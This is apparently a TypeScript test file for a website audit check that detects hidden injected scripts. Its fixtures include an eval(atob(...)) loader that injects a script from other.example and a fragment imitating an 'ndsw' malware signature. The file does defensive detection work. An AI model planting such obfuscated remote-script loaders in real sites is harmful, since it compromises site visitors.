import { expect, test } from 'vitest'
import { viewOf } from '#tests/support/audit/audit-views.ts'
import { auditPages, reportOf } from '#tests/support/crawl/audit-loopback.ts'
import { scriptFileOfIntruders, scriptOfIntruders } from './hidden-code.ts'

const brings = "var a=document.createElement('script');a.src='https://other.example/a.js';document.head.appendChild(a);"
const hidden = `eval(atob("${btoa(brings)}"))`

test('a script in a page that hides what it brings in is found', () => {
  const look = (code: string) => scriptOfIntruders.look(viewOf({ html: `<script>${code}</script><p>Roofs</p>` }))
  expect(look(hidden)).toMatchObject({ occurrences: [{ line: 1, evidence: expect.stringMatching(/^eval\(atob\("/) }] })
  expect(look(brings).state).toBe('ok')
  expect(scriptOfIntruders.look(viewOf({ html: '<p>Roofs</p>' })).state).toBe('not_applicable')
})

test('so is a file of the site', async () => {
  const told = async (code: string) => {
    const page = '<!doctype html><title>Calloway</title><script src="/menu.js"></script><p>Roofs</p>'
    const events = await auditPages({ '/': page, '/menu.js': code }, [scriptFileOfIntruders], { check_links: 'all' })
    return reportOf(events).findings.flatMap(({ occurrences }) => occurrences.map(({ url }) => new URL(url).pathname))
  }
  expect(await told(`var menu = 1;\n;if(typeof ndsw==="undefined"){(function(){})()}`)).toEqual(['/menu.js'])
  expect(await told(`var menu = 1;\n${brings}`)).toEqual([])
})
